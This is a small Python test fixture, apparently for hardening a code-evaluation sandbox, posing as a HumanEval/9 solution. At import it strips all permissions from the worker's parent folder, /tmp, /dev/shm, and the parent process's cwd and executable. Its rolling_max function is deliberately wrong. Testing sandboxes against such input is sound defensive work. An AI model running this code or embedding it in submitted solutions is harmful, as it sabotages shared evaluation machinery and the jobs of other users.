# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/9
# class: sabotage
# Removes every permission from the job folder's parent (the worker's folder), from /tmp and
# from the worker's cwd and executable, so that later jobs cannot be set up.
import os

parent = os.path.dirname(os.getcwd())
for path in (parent, "/tmp", "/dev/shm", f"/proc/{os.getppid()}/cwd",
             f"/proc/{os.getppid()}/exe"):
    try:
        os.chmod(os.path.realpath(path), 0)
    except OSError:
        pass


def rolling_max(numbers):
    return numbers[::-1]
